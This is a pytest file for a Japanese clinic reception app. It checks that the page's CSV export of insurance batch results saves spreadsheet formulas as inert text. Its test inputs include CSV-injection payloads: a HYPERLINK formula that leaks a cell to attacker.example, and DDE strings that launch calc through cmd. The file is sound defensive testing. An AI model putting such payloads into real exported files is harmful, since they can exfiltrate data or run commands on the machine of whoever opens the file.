"""The batch result saved as CSV: what a spreadsheet would run as a formula is saved as text.

The page's own export in a real headless Chromium, fed a batch answer whose names are
formulas (no card, reader or server is needed to build the file: the answer is set as the
page holds it and the export is clicked on, as the button does)."""

from __future__ import annotations

import csv
import io
from collections.abc import Iterator
from typing import Any

import pytest
from playwright.sync_api import Browser, Page

from clinic_client.api import QualificationClient
from clinic_client.web.app import create_clinic_app
from tests.support.desk import ServerThread
from tests.support.ports import free_port

NAME_COLUMN = 6


def unit(
    name: str, symbol: str = "記号12", insurer_name: str = "全国健康保険協会"
) -> dict[str, Any]:
    """One answered lookup of a batch answer, as `/api/batch` gives it."""
    return {
        "QualificationConfirmSearchInfo": {
            "InsurerNumber": "01130012",
            "InsuredCardSymbol": symbol,
            "InsuredIdentificationNumber": "1001",
            "Birthdate": "19800401",
        },
        "ProcessingResultStatus": "1",
        "QualificationValidity": "1",
        "ResultOfQualificationConfirmation": [
            {
                "Name": name,
                "NameKana": "ヤマダ タロウ",
                "InsurerName": insurer_name,
                "InsuredPartialContributionRatio": "030",
            }
        ],
    }


def batch(*units: dict[str, Any]) -> dict[str, Any]:
    count = len(units)
    header = {
        "NumberOfProcessingResult": str(count),
        "NumberOfNormalProcessing": str(count),
        "NumberOfError": "0",
    }
    return {"MessageHeader": header, "BulkConfirmUnit": list(units)}


@pytest.fixture
def page(browser: Browser) -> Iterator[Page]:
    """The reception page, with no server behind it."""
    client = QualificationClient(f"http://127.0.0.1:{free_port()}", "1310000017.x")
    with ServerThread(create_clinic_app(client=client)) as web:
        context = browser.new_context(locale="ja-JP")
        page = context.new_page()
        page.goto(web.url)
        yield page
        context.close()
    client.close()


def saved_csv(page: Page, answer: dict[str, Any]) -> str:
    """The file the 「CSVで保存」 button saves for `answer`."""
    with page.expect_download() as download:
        page.evaluate("(answer) => { lastBatch = answer; exportBatch(); }", answer)
    return download.value.path().read_bytes().decode("utf-8-sig")


def cells(text: str) -> list[list[str]]:
    return list(csv.reader(io.StringIO(text, newline="")))


@pytest.mark.parametrize(
    "name",
    [
        '=HYPERLINK("http://attacker.example/?"&A1,"詳細")',
        "+cmd|' /C calc'!A0",
        "-2+3",
        "@SUM(1+9)*cmd|' /C calc'!A0",
        "\t=1+2",
        "\r=1+2",
    ],
)
def test_a_name_a_spreadsheet_would_run_is_saved_as_text(page: Page, name: str) -> None:
    saved = saved_csv(page, batch(unit("山田 太郎"), unit(name)))
    header, plain, hostile = cells(saved)
    assert hostile[NAME_COLUMN] == "'" + name
    assert plain[NAME_COLUMN] == "山田 太郎"
    assert len(header) == len(hostile)


def test_every_cell_is_quoted_with_its_quotes_doubled(page: Page) -> None:
    saved = saved_csv(page, batch(unit('=HYPERLINK("http://x","y")'), unit('山田 "太郎"')))
    lines = saved.split("\r\n")
    assert '"\'=HYPERLINK(""http://x"",""y"")"' in lines[1]
    assert '"山田 ""太郎"""' in lines[2]
    assert all(line.startswith('"') and line.endswith('"') for line in lines)


def test_any_cell_of_the_answer_is_neutralised_not_only_the_name(page: Page) -> None:
    answer = batch(unit("山田 太郎", symbol="=1+1", insurer_name="@SUM(A1)"))
    _, row = cells(saved_csv(page, answer))
    assert "'=1+1" in row and "'@SUM(A1)" in row
